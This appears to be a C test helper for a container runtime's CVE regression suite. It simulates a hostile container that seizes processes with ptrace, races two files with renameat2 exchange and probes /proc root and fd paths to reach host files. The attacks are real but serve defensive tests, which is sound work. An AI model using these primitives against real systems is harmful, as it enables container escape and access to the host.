/*
 * What a hostile container does, for tests/cve.bats: `attack KIND ARGS...`.
 *
 *	trace NAME           seizes (ptrace) each process of that name that turns up, and lets none of them go
 *	exchange A B         lets two files change places for ever
 *	roots PATH           looks for PATH below /proc/PID/root and for folders below /proc/PID/fd of every process, for ever
 *	wait SECONDS         does nothing, for trace (link it to another name)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

#define MICROSECONDS 1000

/* Calls visit with each process but this one, for ever. */
static void watch(void (*visit)(int pid, const char *argument), const char *argument)
{
	for (;; usleep(MICROSECONDS)) {
		DIR *dir = opendir("/proc");
		const struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			int pid = atoi(entry->d_name);

			if (pid > 0 && pid != getpid())
				visit(pid, argument);
		}
		if (dir)
			closedir(dir);
	}
}

static void seize(int pid, const char *name)
{
	char path[64], comm[64] = "";
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	file = fopen(path, "re");
	if (!file)
		return;
	if (fgets(comm, sizeof(comm), file) && !strncmp(comm, name, strlen(name)) &&
		ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		printf("seized\n");
		fflush(stdout);
	}
	fclose(file);
}

static int trace(char **args)
{
	printf("tracing\n");
	fflush(stdout);
	watch(seize, args[0]);
	return 0;
}

static int exchange(char **args)
{
	while (renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE) == 0 || errno == ENOENT)
		;
	return 1;
}

/* Says what of the host it can see through another process. */
static void look(int pid, const char *wanted)
{
	char path[PATH_MAX];
	DIR *dir;
	const struct dirent *entry;

	snprintf(path, sizeof(path), "/proc/%d/root%s", pid, wanted);
	if (access(path, F_OK) == 0) {
		printf("found %s\n", path);
		fflush(stdout);
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%.20s/../../../../../../../..%s", pid,
			entry->d_name, wanted);
		if (access(path, F_OK) == 0) {
			printf("found %s\n", path);
			fflush(stdout);
		}
	}
	if (dir)
		closedir(dir);
}

static int roots(char **args)
{
	printf("looking\n");
	fflush(stdout);
	watch(look, args[0]);
	return 0;
}

static int wait_a_while(char **args)
{
	sleep((unsigned int)atoi(args[0]));
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int n;
		int (*run)(char **args);
	} kinds[] = {
		{"trace", 1, trace},
		{"exchange", 2, exchange},
		{"roots", 1, roots},
		{"wait", 1, wait_a_while},
	};

	for (size_t i = 0; argc > 1 && i < sizeof(kinds) / sizeof(*kinds); i++)
		if (!strcmp(argv[1], kinds[i].name) && argc - 2 == kinds[i].n)
			return kinds[i].run(argv + 2);
	fprintf(stderr, "attack: see the top of its source\n");
	return 2;
}
